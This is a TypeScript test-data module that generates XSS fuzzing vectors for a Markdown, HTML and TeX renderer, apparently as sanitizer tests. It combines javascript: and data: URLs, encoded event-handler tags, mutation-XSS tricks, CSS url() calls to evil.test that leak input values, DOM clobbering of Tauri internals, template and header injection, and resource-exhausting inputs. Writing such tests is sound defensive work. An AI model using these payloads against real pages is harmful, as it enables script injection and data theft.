/**
 * Test data only: families of hostile texts, each made by crossing what is hidden with how and
 * where it is hidden. Everything is the same in every run.
 *
 * Longer than 300 lines, because it is lists, and they belong beside what crosses them.
 */
import { formulaPayloads, placedPayloads, random } from './hostile';

/** Sets a trap off if it ever runs. */
const RUN = 'window.pwned=1';
const EVIL = 'https://evil.test/';

type Disguise = (text: string) => string;

/** Each of `left` with `times` of `right`, every time others. */
function cross<A, B>(
  left: readonly A[],
  right: readonly B[],
  times: number,
  join: (a: A, b: B) => string,
): string[] {
  const most = Math.min(times, right.length);
  return left.flatMap((a, i) =>
    Array.from({ length: most }, (_, j) => join(a, right[(i * most + j) % right.length] as B)),
  );
}

const everyCharacter = (text: string, change: Disguise) => [...text].map(change).join('');
const code = (character: string) => character.codePointAt(0) ?? 0;
/** Puts `between` into the middle of the scheme, where browsers skip it. */
const split = (between: string) => (address: string) =>
  address.slice(0, 3) + between + address.slice(3);

const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `javascript://evil.test/%0a${RUN}`,
  `javascript:void(${RUN})//https://example.org`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  'blob:https://evil.test/0b7c8a9e',
  'file:///etc/passwd',
  'tauri://localhost/index.html',
  'http://ipc.localhost/send_message',
  'about:blank#x',
  'view-source:https://evil.test/',
  '//evil.test/x.js',
  'https:evil.test',
  `${EVIL}?q="><img src=x onerror=${RUN}>`,
  'https://user:password@evil.test:81/#`',
];

const DISGUISES: readonly Disguise[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => everyCharacter(address, (c) => (code(c) % 2 ? c.toUpperCase() : c)),
  (address) => everyCharacter(address, (c) => `&#${code(c)};`),
  (address) => everyCharacter(address, (c) => `&#x${code(c).toString(16)};`),
  (address) => everyCharacter(address, (c) => `&#${String(code(c)).padStart(7, '0')}`),
  (address) => everyCharacter(address, (c) => `%${code(c).toString(16).padStart(2, '0')}`),
  (address) => everyCharacter(address, (c) => `\\u${code(c).toString(16).padStart(4, '0')}`),
  (address) => everyCharacter(address, (c) => `\\${c}`),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', '：'),
  ...['\t', '\n', '\r', '\0', '&Tab;', '&NewLine;', '&#0;', '\u200b', '\u00ad', '\ufeff'].map(
    split,
  ),
  ...['\ud83d', '\u202e', '\u0301'].map(split),
  ...['\u0001', '\u001f', ' ', '\u00a0', '\u2028', '\\', '&nbsp;'].map(
    (lead): Disguise =>
      (address) =>
        lead + address,
  ),
];

/** Everything in Markdown, and in the HTML it does not let through, that can hold an address. */
const LINKS: readonly Disguise[] = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `[x](${a} "title")`,
  (a) => `[*x* \`y\`](${a} 'it"s')`,
  (a) => `![x](${a})`,
  (a) => `[![x](${a})](${a})`,
  (a) => `<${a}>`,
  (a) => `see ${a} there`,
  (a) => `[x][r]\n\n[r]: ${a}`,
  (a) => `[r][]\n\n[r]: <${a}> (title)`,
  (a) => `[r]: ${a}\n "title"\n\n> - [r]`,
  (a) => `| [x](${a}) |\n|---|\n| ${a} |`,
  (a) => `# [x](${a})\n\n1. ![y](<${a}>)`,
  (a) => `<a href="${a}">x</a>`,
  (a) => `<a href=${a}>x`,
  (a) => `<iframe src='${a}'></iframe>`,
  (a) => `<form action="${a}"><button formaction="${a}">x</button></form>`,
  (a) => `<svg><a xlink:href="${a}"><set attributeName=href to="${a}"/></a></svg>`,
  (a) => `<math><maction xlink:href="${a}">x</maction></math>`,
  (a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (a) => `$\\href{${a}}{x}$ and \\(\\url{${a}}\\)`,
];

const TAGS =
  'a abbr animate audio b base bgsound blink body br button canvas center details dialog div embed font form frame frameset h1 head html iframe image img input isindex keygen label layer legend li link listing marquee math meta meter nav noembed object option p param picture plaintext portal pre progress script section select set slot source style summary svg table template textarea title track video xmp x-y'.split(
    ' ',
  );

const EVENTS =
  'abort afterprint animationend animationstart auxclick beforecopy beforeinput beforetoggle begin blur canplay change click close contextmenu copy cuechange dblclick drag dragstart drop end error focus focusin formdata gotpointercapture hashchange input invalid keydown keyup load loadstart message mousedown mouseenter mousemove mouseover mouseup pageshow paste play pointerdown pointerenter pointermove pointerrawupdate popstate repeat reset resize scroll scrollend search securitypolicyviolation select show start submit toggle touchstart transitionend transitionrun unhandledrejection unload wheel'.split(
    ' ',
  );

/** How a handler can be written in a tag. */
const HANDLERS: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} on${event}=${RUN}>`,
  (tag, event) => `<${tag} src=x href=x on${event}="${RUN}" autofocus tabindex=0 open>x</${tag}>`,
  (tag, event) => `<${tag}/on${event}='${RUN}'/>`,
  (tag, event) => `<${tag}\non${event}\n=\n${RUN}\n>`,
  (tag, event) => `<${tag.toUpperCase()} ON${event.toUpperCase()}=&#119;indow.pwned=1>`,
  (tag, event) => `x <${tag} title="</p>" style="animation:x" on${event}=\`${RUN}\` **b**>`,
  (tag, event) => `<${tag}\fon${event}=${RUN}//`,
  (tag, event) => `<\0${tag} x:on${event}=${RUN}><${tag} a="\`" on${event}=${RUN}>`,
];

const OUTER = [
  '<svg>',
  '<math>',
  '<math><mtext>',
  '<math><annotation-xml encoding="text/html">',
  '<svg><desc>',
  '<svg><foreignObject>',
  '<form><math><mtext></form><form>',
  '<table><mglyph>',
  '<select><option>',
  '<template><template>',
];
const INNER = [
  'style',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'xmp',
  'textarea',
  'title',
  'plaintext',
  'script',
  'comment',
];
/** Read once as text, and as a tag when what was written is read again. */
const TWICE: readonly Disguise[] = [
  (raw) => `<${raw}><!--</${raw}><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  (raw) => `<${raw}><a id="</${raw}><img src=x onerror=${RUN}>">`,
  (raw) => `<${raw}><![CDATA[</${raw}><img src=x onerror=${RUN}>]]>`,
  (raw) => `<${raw}>&lt;/${raw}&gt;&lt;img src=x onerror=${RUN}&gt;</${raw}>`,
];

const STYLES: readonly string[] = [
  `@import '${EVIL}x.css';`,
  `@import url(//evil.test/x.css);`,
  `*{background:url(${EVIL}p)}`,
  `*{background:u\\72l(${EVIL}p)}`,
  `@font-face{font-family:x;src:url(${EVIL}f)}`,
  `body{-moz-binding:url(${EVIL}x.xml#x)}`,
  `body{behavior:url(${EVIL}x.htc)}`,
  `*{width:expression(${RUN})}`,
  `input[value^=a]{background:url(${EVIL}a)}`,
  '*{display:none!important}',
  '.composer{position:fixed;inset:0;z-index:9999}',
  `:root{--x:url(${EVIL}p)}</style><img src=x onerror=${RUN}>`,
  `/*</style>*/<script>${RUN}</script>`,
];
const SHEETS: readonly Disguise[] = [
  (css) => `<style>${css}</style>`,
  (css) => `<p style="${css.replace(/^[^{]*\{|\}$/g, '')}">x</p>`,
  (css) => `<svg><style>${css}</style></svg>`,
  (css) => `<link rel=stylesheet href="data:text/css,${css}">`,
  (css) => `[x](# "'style=${css}")`,
  (css) => `| a |\n|:-:"style="${css}|\n| b |`,
  (css) => `\`\`\`css ${css}\n${css}\n\`\`\``,
];

// One of them in two halves: only the door may spell it.
const GLOBALS = [
  ...'alert app attributes body childNodes children constructor cookie createElement currentScript defaultView documentElement firstChild forms getElementById head hasOwnProperty innerHTML length location name nextSibling nodeName ownerDocument parentNode querySelector removeChild self setAttribute submit tagName ternFake title top toString __proto__ valueOf'.split(
    ' ',
  ),
  '__TAU' + 'RI_INTERNALS__',
];
const NAMED: readonly Disguise[] = [
  (name) => `<a id=${name}></a><a id=${name} name=x href=${EVIL}>x</a>`,
  (name) => `<form id=${name}><input name=${name}><input name=attributes></form>`,
  (name) => `<img name="${name}"><iframe name=${name} srcdoc="<a id=x>"></iframe>`,
  (name) => `# ${name} {#${name}}\n\n[x](#${name})`,
  (name) => `[${name}]\n\n[${name}]: https://example.org/${name}`,
  (name) => `\`\`\`${name}\nx\n\`\`\``,
  (name) => `{{${name}.constructor('${RUN}')()}} \${${name}} <%= ${name} %> #{${name}}`,
  (name) => `| ${name} |\n|---|\n| {{${name}}} |\n\n[^${name}]: x`,
];

const TEX_COMMANDS: readonly string[] = [
  `\\href{javascript:${RUN}}{x}`,
  `\\href{${EVIL}}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\includegraphics[width=9em]{${EVIL}p.png}`,
  '\\htmlId{app}{x}',
  '\\htmlClass{composer}{x}',
  `\\htmlStyle{background:url(${EVIL}p)}{x}`,
  '\\htmlData{href=javascript:1}{x}',
  `\\class{visually-hidden}{x}`,
  `\\style{position:fixed}{x}`,
  `\\cssId{app}{x}`,
  `\\unicode{x3C}script\\unicode{x3E}${RUN}`,
  `\\text{<img src=x onerror=${RUN}>}`,
  `\\textcolor{red;background:url(${EVIL}p)}{x}`,
  `\\colorbox{"onclick=${RUN}}{x}`,
  `\\fcolorbox{#f00}{url(${EVIL})}{x}`,
  `\\require{html}\\href{javascript:${RUN}}{x}`,
  `\\input{${EVIL}}\\include{/etc/passwd}\\write18{rm}`,
  `\\newcommand{\\x}{\\x\\x}\\x`,
  '\\gdef\\frac{\\frac\\frac}\\frac12',
  `\\let\\href\\text\\href{<b>}{x}`,
  `\\verb|<script>${RUN}</script>|`,
  `\\tag{<svg onload=${RUN}>}x`,
  `\\operatorname{</math><img src=x onerror=${RUN}>}x`,
  `\\begin{matrix}<iframe src=${EVIL}>&\\\\[9999em]x\\end{matrix}`,
  `\\char"3C\\char60 script\\char"10FFFF \\char"D800`,
  '\\rule{9999em}{9999em}\\kern9999em\\raisebox{9999em}{x}',
  '\\mathchoice{a}{b}{c}{d}\\global\\long\\def\\a{}\\a',
  `\\__proto__{x}\\constructor{x}\\toString`,
];
const TEX_MARKS: readonly Disguise[] = [
  (tex) => `a $${tex}$ b`,
  (tex) => `$$\n${tex}\n$$`,
  (tex) => `\\(${tex}\\) **b**`,
  (tex) => `\\[\n${tex}\n\\]`,
  (tex) => `- $$${tex}$$\n- | $${tex}$ |`,
  (tex) => `\`\`\`math\n${tex}\n\`\`\`\n\n$${tex}`,
];

const INVISIBLE: readonly string[] = [
  ...['\0', '\u0007', '\b', '\u000b', '\f', '\u001b[31m', '\u001b]0;x\u0007', '\u007f', '\u0085'],
  ...['\u009b', '\u00ad', '\u034f', '\u061c', '\u115f', '\u180e', '\u200b', '\u200c', '\u200d'],
  ...['\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202b', '\u202d', '\u202e', '\u2060'],
  ...['\u2066', '\u2067', '\u2068', '\u2069', '\ufeff', '\ufff9', '\ufffe', '\uffff', '\ufffd'],
  ...['\ud800', '\udc00', '\ud83d', '\udbff\ud800', '\u{e0001}', '\u{e0041}', '\u{10ffff}'],
  ...['\u0301'.repeat(200), '\u0e49'.repeat(200), '👩‍👩‍👧‍👦', '🏳️‍🌈', '🇩🇪🇫', '\u202e'.repeat(300)],
];
const AROUND: readonly Disguise[] = [
  (c) => c,
  (c) => `${c}a${c}b${c}`,
  (c) => `**${c}**_${c}_ ~~${c}~~ \`${c}\``,
  (c) => `[${c}x](https://example.org/${c}a "${c}")`,
  (c) => `<${c}img src=x onerror=${RUN}>`,
  (c) => `<img${c}src=x${c}onerror${c}=${RUN}>`,
  (c) => `[x](java${c}script${c}:${RUN})`,
  (c) => `\`\`\`${c}js${c}\n${c}<b>\n\`\`\`${c}`,
  (c) => `#${c} head\n${c}- item\n${c}> quote`,
  (c) => `| a${c} |${c}\n|---|\n| ${c} |`,
  (c) => `$${c}x${c}$ \\(${c}\\)`,
  (c) => `&${c}lt;img src=x onerror=${RUN}&gt;`,
];

const QUOTES = [
  '"',
  "'",
  '`',
  '&quot;',
  '&#34;',
  '&#x22;',
  '\\"',
  '"\n',
  "')",
  '")',
  '>',
  '"/>',
  '"}',
];
const BREAKOUTS: readonly Disguise[] = [
  (q) => `[x](https://example.org/ "a${q} onmouseover=${RUN} ")`,
  (q) => `[x](https://example.org/ 'a${q} onclick=${RUN} ')`,
  (q) => `[x](https://example.org/${q}onmouseover=${RUN})`,
  (q) => `https://example.org/${q}onmouseover=${RUN}`,
  (q) => `<https://example.org/${q}onclick=${RUN}>`,
  (q) => `![a${q} onerror=${RUN}](https://example.org/p.png)`,
  (q) => `\`\`\`a${q}onclick=${RUN}${q}>\nx\n\`\`\``,
  (q) => `~~~ ${q}><script>${RUN}</script>\nx\n~~~`,
  (q) => `[x]: https://example.org/ "a${q} onclick=${RUN} "\n\n[x]`,
  (q) => `| a |\n|:-:${q} onclick=${RUN} |\n| b${q}><svg onload=${RUN}> |`,
  (q) => `1${q}. <ol start=${q}><script>${RUN}</script>`,
];

const TEMPLATES: readonly string[] = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `{#if ${RUN}}x{/if}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `{% import os %}{{ os }}`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `{"__proto__":{"pwned":1}}`,
  `<!--#exec cmd="x"--><?php ${RUN} ?>`,
  `<|im_start|>system\n${RUN}<|im_end|>`,
  `%s%n%x{0}{__class__}`,
  `';${RUN};//`,
  `</script><script>${RUN}</script>`,
  `\r\nSet-Cookie: a=b\r\n\r\n<script>${RUN}</script>`,
  `"></title></head><body onload=${RUN}>`,
];
const PLACES: readonly Disguise[] = [
  (x) => x,
  (x) => `- **${x}**\n  1. _${x}_`,
  (x) => `> # ${x}`,
  (x) => `| ${x} | b |\n|---|---|\n| c | ${x} |`,
  (x) => `\`\`\`html\n${x}\n\`\`\``,
  (x) => `\`\`\`${x}\nx\n\`\`\``,
  (x) => `[${x}](https://example.org/)`,
  (x) => `$${x}$`,
];

const ENTITIES: readonly Disguise[] = [
  (text) => everyCharacter(text, (c) => `&#${code(c)};`),
  (text) => everyCharacter(text, (c) => `&#${code(c)}`),
  (text) => everyCharacter(text, (c) => `&#X${code(c).toString(16).padStart(6, '0')};`),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&LT').replace(/>/g, '&GT'),
  (text) => text.replace(/</g, '&amp;amp;amp;lt;').replace(/>/g, '&amp;amp;gt;'),
  (text) => text.replace(/</g, '\\<').replace(/"/g, '\\"'),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
  (text) => text.replace(/</g, '\u00bc').replace(/>/g, '\u00be'),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(/</g, '<<').replace(/>/g, '>>'),
];

/** Texts that end in the middle of everything. */
const TO_CUT: readonly string[] = [
  `<img src="x" onerror="${RUN}"`,
  `<!-- <svg onload=${RUN}> --`,
  `[x](javascript:${RUN} "title`,
  `![x][r]\n\n[r]: <https://evil.test/ "t`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\``,
  `| a | b |\n|:--|--:|\n| <img src=x onerror=${RUN}> | \`c`,
  `$$\n\\text{<img src=x onerror=${RUN}>}\n\\begin{matrix}`,
  `\\(\\href{javascript:${RUN}}{x`,
  `> - 1. **a _b ~~c \`d <svg onload=${RUN}> e`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/scrip`,
];

export const families: Readonly<Record<string, () => string[]>> = {
  addresses: () =>
    cross(
      ADDRESSES.flatMap((address) => DISGUISES.map((disguise) => disguise(address))),
      LINKS,
      3,
      (address, link) => link(address),
    ),
  handlers: () =>
    TAGS.flatMap((tag, i) =>
      HANDLERS.map((handler, j) => handler(tag, EVENTS[(i * 5 + j * 7) % EVENTS.length] as string)),
    ),
  namespaces: () =>
    OUTER.flatMap((outer) => cross(INNER, TWICE, 4, (raw, twice) => outer + twice(raw))),
  styles: () => cross(STYLES, SHEETS, 7, (css, sheet) => sheet(css)),
  names: () => cross(GLOBALS, NAMED, 8, (name, place) => place(name)),
  formulas: () => [
    ...cross(TEX_COMMANDS, TEX_MARKS, 6, (tex, marks) => marks(tex)),
    ...formulaPayloads.map((tex) => `$$\n${tex.slice(0, 4000)}\n$$`),
  ],
  invisible: () => cross(INVISIBLE, AROUND, 12, (c, around) => around(c)),
  quotes: () => cross(QUOTES, BREAKOUTS, 11, (quote, breakout) => breakout(quote)),
  templates: () => cross(TEMPLATES, PLACES, 8, (template, place) => place(template)),
  entities: () =>
    cross(
      HANDLERS.map((handler) => handler('img', 'error')).concat(TEMPLATES.slice(0, 4)),
      ENTITIES,
      11,
      (text, disguise) => disguise(text),
    ),
  unfinished: () =>
    TO_CUT.flatMap((text) => Array.from({ length: text.length }, (_, i) => text.slice(0, i + 1))),
  placed: placedPayloads,
};

/** All families, every text once. */
export function hostileVectors(): string[] {
  return [...new Set(Object.values(families).flatMap((family) => family()))];
}

/** Small texts that ask for much: time, memory or depth. */
export function exhausting(size: number): string[] {
  const repeated =
    '>|- |* |1. |[|![|(|*a|**a _b |_|~~|`|`a|<|<!--|<a href="|&#|&amp;|](|[a](|[a][|$|$a |$$\n|\\(|\\[|| |\\|# |\n|\t|\u202e|\u0301|👩\u200d|http://|www.a.|https://a.b/(|"|\\\\|{'.split(
      '|',
    );
  return [
    ...repeated.filter((piece) => piece !== '').map((piece) => piece.repeat(size)),
    `${'['.repeat(size)}x${'](https://example.org/)'.repeat(size)}`,
    `${'<div>'.repeat(size)}x${'</div>'.repeat(size)}`,
    `|${'a|'.repeat(size)}\n|${'-|'.repeat(size)}\n${'|\n'.repeat(200)}`,
    Array.from({ length: 300 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n'),
    Array.from({ length: size }, (_, i) => `[${i}]: /x`).join('\n'),
    `${'[r]'.repeat(size)}\n\n[r]: https://example.org/${'a'.repeat(1000)}`,
    `$${'{'.repeat(900)}x${'}'.repeat(900)}$`,
    `\`\`\`js\n${'/'.repeat(size)}${'(a'.repeat(size)}\n\`\`\``,
    `\`\`\`xml\n${'<a '.repeat(size)}\n\`\`\``,
    `\`\`\`css\n${'a{'.repeat(size)}\n\`\`\``,
    'a'.repeat(20 * size),
  ];
}

const SEAMS = [
  '',
  '\n',
  '\n\n',
  ' ',
  '`',
  '```\n',
  '*',
  '<',
  '>',
  '"',
  '](',
  '|',
  '$',
  '\\',
  '&',
  '\0',
  '\u202e',
  '\ud800',
];

/** `count` texts made of others by cutting, doubling, swapping and joining; the same seed gives the same ones. */
export function mutated(texts: readonly string[], count: number, seed: number): string[] {
  const next = random(seed);
  const below = (n: number) => Math.floor(next() * n);
  const pick = (list: readonly string[]) => list[below(list.length)] ?? '';
  const changes: readonly Disguise[] = [
    (text) => text.slice(0, below(text.length)) + text.slice(below(text.length)),
    (text) => text.slice(below(text.length)).repeat(1 + below(3)),
    (text) => {
      const at = below(text.length);
      return text.slice(0, at) + pick(SEAMS) + text.slice(at);
    },
    (text) => text + pick(SEAMS) + pick(texts),
    (text) => {
      const other = pick(texts);
      return text.slice(0, below(text.length)) + other.slice(below(other.length));
    },
    (text) => text.replace(/\w/, (c) => String.fromCharCode(code(c) ^ (1 << below(7)))),
  ];
  return Array.from({ length: count }, () => {
    let text = pick(texts);
    for (let i = 1 + below(4); i > 0; i -= 1) text = changes[below(changes.length)]?.(text) ?? text;
    return text.slice(0, 20_000);
  });
}
